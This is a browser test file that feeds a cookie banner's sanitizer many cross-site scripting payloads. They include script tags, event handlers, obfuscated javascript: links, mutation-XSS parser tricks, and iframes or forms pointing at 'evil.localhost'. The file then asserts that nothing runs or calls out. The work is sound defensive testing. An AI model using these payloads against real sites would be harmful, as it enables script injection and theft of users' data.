// covers: runtime/browser/
import { expect, test } from 'vitest';
import { browserWorld } from '../../helpers/browser/browser.ts';
import { plainContext, testSite } from '../../helpers/platform/test-site.ts';

const world = browserWorld(() => [
  testSite('hostile', {
    '/': {
      context: { ...plainContext, cookieSettings: { isCookieBannerEnabled: true } },
      body: '<main><h1>Page</h1></main>',
    },
  }),
]);

const evil = 'http://evil.localhost:9';
const harm = 'window.harmed=(window.harmed||0)+1';
const hex = (text: string) => Array.from(text, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('');
const decimal = (text: string) => Array.from(text, (letter) => `&#${letter.charCodeAt(0)}`).join('');
const link = (href: string) => `<a href="${href}">words</a>`;

const scripts = [
  `<script>${harm}</script>words`,
  `<SCRIPT SRC=${evil}/a.js></SCRIPT>`,
  `<scr<script>ipt>${harm}</scr</script>ipt>`,
  `<script/x>${harm}</script/x>`,
  `<<script>${harm};//<</script>`,
  `<script type="module">${harm}</script>`,
  `<svg><script>${harm}</script></svg>`,
  `<svg><script href="data:,${harm}"/></svg>`,
  `<math><annotation-xml encoding="text/html"><script>${harm}</script></annotation-xml></math>`,
  `<template><script>${harm}</script></template>`,
  `<template shadowrootmode="open"><script>${harm}</script><slot></slot></template>`,
  `<div><template shadowrootmode="open"><img src=x onerror=${harm}></template></div>`,
];
const handlers = [
  `<img src=x onerror=${harm}>`,
  `<img src=x onerror="${harm}"//`,
  `<IMG """><img src=x onerror=${harm}>">`,
  `<image src=x onerror=${harm}>`,
  `<img/src/onerror=${harm}>`,
  `<svg onload=${harm}>`,
  `<svg/onload=${harm}>`,
  `<svg><animate onbegin=${harm} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${harm} /><text x=20 y=20>words</text></a></svg>`,
  `<svg><foreignObject><body onload=${harm}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' ` +
    `onerror='${harm}'/></svg>#x"/></svg>`,
  `<body onload=${harm}>words`,
  `<body onpageshow=${harm} onfocus=${harm}>`,
  `<input autofocus onfocus=${harm}>`,
  `<select autofocus onfocus=${harm}><option>`,
  `<textarea autofocus onfocus=${harm}>words</textarea>`,
  `<details open ontoggle=${harm}>words`,
  `<video src=x onerror=${harm}></video>`,
  `<video><source onerror=${harm}></video>`,
  `<audio src=x onerror=${harm}>`,
  `<marquee onstart=${harm}>words</marquee>`,
  `<p onclick="${harm}" onmouseover="${harm}" onfocus="${harm}" tabindex=0 autofocus>words</p>`,
  `<a href="/x" onclick="${harm}" onmouseover="${harm}" ping="${evil}/ping">words</a>`,
  `<p style="animation-name:sqs-cookie-banner-v2-in" onanimationstart="${harm}">words</p>`,
  `<strong popover id=p onbeforetoggle=${harm}>words</strong><button popovertarget=p>`,
];
const links = [
  link(`javascript:${harm}`),
  link(`JaVaScRiPt:${harm}`),
  link(` \u0001javascript:${harm}`),
  link(`java\nscript:${harm}`),
  link(`java\tscript:${harm}`),
  link(`java&Tab;script:${harm}`),
  link(`java&NewLine;script&colon;${harm}`),
  link(`\u0000javascript:${harm}`),
  link(`${hex('javascript:')}${harm}`),
  link(`${decimal('javascript:')};${harm}`),
  link(`&#0000106&#0000097&#0000118&#0000097&#0000115cript:${harm}`),
  link(`javascript://%0a${harm}`),
  link(`vbscript:msgbox(1)`),
  link(`data:text/html,<script>${harm}</script>`),
  link(`data:text/html;base64,PHNjcmlwdD5oYXJtZWQ9MTwvc2NyaXB0Pg==`),
  link(`blob:${evil}/x`),
  link(`filesystem:${evil}/x`),
  link(`view-source:${evil}`),
  link(`file:///etc/passwd`),
  link('http://[broken'),
  `<a xlink:href="javascript:${harm}">words</a>`,
  `<svg><a xlink:href="javascript:${harm}"><text>words</text></a></svg>`,
  `<math href="javascript:${harm}"><mi>words</mi></math>`,
  `<a href="${evil}" target="_blank">words</a>`,
  `<a href="${evil}" target="x" rel="opener">words</a>`,
  `<a href="${evil}" target=_blank rel=opener>words</a>`,
  `<a href="/download" download="x.exe">words</a>`,
];
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${harm}>">`,
  `<style><!--</style><img src=x onerror=${harm}>--></style>`,
  `<title><img title="</title><img src=x onerror=${harm}>"></title>`,
  `<textarea><img title="</textarea><img src=x onerror=${harm}>"></textarea>`,
  `<xmp><p title="</xmp><img src=x onerror=${harm}>"></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${harm}>"></noembed>`,
  `<plaintext><img src=x onerror=${harm}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${harm}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${harm} src>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${harm}>">`,
  `<svg><style>&lt;img src=x onerror=${harm}&gt;</style></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${harm}></style></annotation-xml></math>`,
  `<table><td><select><style></select><img src=x onerror=${harm}></style>`,
  `<!--><img src=x onerror=${harm}>-->`,
  `<!--!><img src=x onerror=${harm}>-->`,
  `<![CDATA[<img src=x onerror=${harm}>]]>`,
  `<?xml <img src=x onerror=${harm}> ?>`,
  `<p title="\`<img src=x onerror=${harm}>\`">words</p>`,
  `&lt;img src=x onerror=${harm}&gt;`,
  `${'<b>'.repeat(2000)}<img src=x onerror=${harm}>${'</b>'.repeat(2000)}`,
];
const foreign = [
  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  `<iframe src="javascript:parent.harmed=1"></iframe>`,
  `<iframe src="${evil}"></iframe>`,
  `<frameset onload=${harm}><frame src="${evil}"></frameset>`,
  `<object data="${evil}"></object>`,
  `<object data="data:text/html,<script>parent.harmed=1</script>"></object>`,
  `<embed src="${evil}">`,
  `<applet code=x></applet>`,
  `<form action="${evil}"><input name=password value=1><button id=go autofocus>words</button></form>`,
  `<button form=x formaction="javascript:${harm}">words</button>`,
  `<isindex action="javascript:${harm}" type=submit>`,
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src 'none'">`,
  `<base href="${evil}/"><a href="privacy">words</a>`,
  `<base target="_blank">words`,
  `<link rel=stylesheet href="${evil}/a.css">`,
  `<link rel=import href="${evil}">`,
  `<style>body{display:none}</style>`,
  `<style>@import '${evil}/a.css';</style>`,
  `<p style="position:fixed;inset:0;z-index:99999">words</p>`,
  `<p style="background:url(${evil}/a.png)">words</p>`,
  `<p style="width:expression(${harm})">words</p>`,
  `<p style="behavior:url(${evil}/a.htc);-moz-binding:url(${evil}/a.xml)">words</p>`,
  `<div class="sqs-cookie-banner-v2-accept" id="SSRuntime" name="cookie">words</div>`,
  `<img src="${evil}/a.png"><picture><source srcset="${evil}/b.png"></picture>`,
  `<table background="${evil}/a.png"><tr><td>words</td></tr></table>`,
  `<x-evil is="x">words</x-evil>`,
  `<span data-ss-consent-open data-ss-consent>words</span>`,
];

/** Sets each text as the banner's text and labels, and returns what became of it. The function runs in the page. */
async function layOut(texts: readonly string[]) {
  const find = () => document.querySelector('.sqs-cookie-banner-v2');
  // Links are not followed.
  addEventListener('click', (event) => event.preventDefault());
  const all = [];
  for (const text of texts) {
    const before = find();
    window.SSRuntime.consent.update({
      cookieBannerText: text,
      cookieBannerCtaText: text,
      cookieBannerOptOutCtaText: text,
      cookieBannerAcceptType: 'OPT_IN_AND_OUT',
    });
    await new Promise<void>((resolve) => {
      const look = () => (find() && find() !== before ? resolve() : requestAnimationFrame(look));
      look();
    });
    const inside = Array.from(document.querySelectorAll<HTMLElement>('.sqs-cookie-banner-v2-text *'));
    // Triggers handlers that wait for the pointer or the focus.
    for (const element of inside) {
      for (const name of ['mouseover', 'pointerenter', 'focus', 'toggle', 'animationstart', 'load', 'error'])
        element.dispatchEvent(new Event(name, { bubbles: true }));
      if (element.tagName !== 'A') element.click();
    }
    // Handlers that need no trigger have run after two frames.
    await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
    const labels = Array.from(document.querySelectorAll('.sqs-cookie-banner-v2-cta'));
    all.push({
      text,
      found: inside.map((element) => ({
        name: element.tagName,
        attributes: element.getAttributeNames(),
        protocol: (element as HTMLAnchorElement).protocol ?? null,
        opener: element.getAttribute('target') === null || element.getAttribute('rel') === 'noopener',
      })),
      inLabels: labels.map((label) => label.querySelectorAll('span > *').length),
    });
  }
  return all;
}

const elements = 'A B BR DIV EM I LI OL P S SMALL SPAN STRONG SUB SUP U UL'.split(' ');

test.each([
  ['scripts', scripts],
  ['event handlers', handlers],
  ['links', links],
  ['markup that changes when it is parsed again', mutations],
  ['foreign elements and styles', foreign],
])('%s in the text and the labels do nothing: no script, no request, only plain elements and safe links', async (_, texts) => {
  const { page, open, pageErrors } = await world.nextVisitor();
  const alien: string[] = [];
  page.on('request', (request) => {
    if (!/^(http:\/\/(hostile|static)\.localhost:\d+\/|data:,$)/.test(request.url())) alien.push(request.url());
  });
  page.on('dialog', (dialog) => {
    alien.push(dialog.message());
    void dialog.dismiss();
  });
  await open('hostile', '/');
  const address = page.url();
  const all = await page.evaluate(layOut, texts);
  expect(all.map(({ text }) => text)).toEqual(texts);
  for (const { text, found, inLabels } of all) {
    for (const { name, attributes, protocol, opener } of found) {
      expect([text, elements.includes(name)]).toEqual([text, true]);
      expect([text, attributes.filter((each) => name !== 'A' || !['href', 'target', 'rel'].includes(each))]).toEqual([text, []]);
      expect([text, protocol === null || ['', ':', 'http:', 'https:', 'mailto:', 'tel:'].includes(protocol), opener]).toEqual([
        text,
        true,
        true,
      ]);
    }
    // Labels are plain text.
    expect([text, inLabels]).toEqual([text, [0, 0]]);
  }
  expect(await page.evaluate(() => (window as { harmed?: unknown }).harmed)).toBe(undefined);
  expect([alien, pageErrors, page.url()]).toEqual([[], [], address]);
  expect(await page.$eval('h1', (heading) => heading.checkVisibility())).toBe(true);
});

// consent#banner-html
test('the text keeps paragraphs, lists, emphasis and links with their addresses, and headings become lines', async () => {
  const { page, open } = await world.nextVisitor();
  await open('hostile', '/');
  const cleaned = (text: string) =>
    page.evaluate(async (given) => {
      window.SSRuntime.consent.update({ cookieBannerText: given });
      await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
      return document.querySelector('.sqs-cookie-banner-v2-text')?.innerHTML;
    }, text);
  const kind =
    '<p>Read <a href="/privacy">this</a> <em>and</em> <u>that</u>.<br>Call <a href="tel:+441">us</a></p><ol><li>One</li></ol>';
  expect(await cleaned(kind)).toBe(kind);
  expect(await cleaned('<h2>Cookies</h2>We use them<blockquote>well</blockquote>')).toBe(
    '<div>Cookies</div>We use them<div>well</div>',
  );
  expect(await cleaned('Tom &amp; Jerry &lt;3 <a name="x">no link</a>')).toBe('Tom &amp; Jerry &lt;3 <a>no link</a>');
});
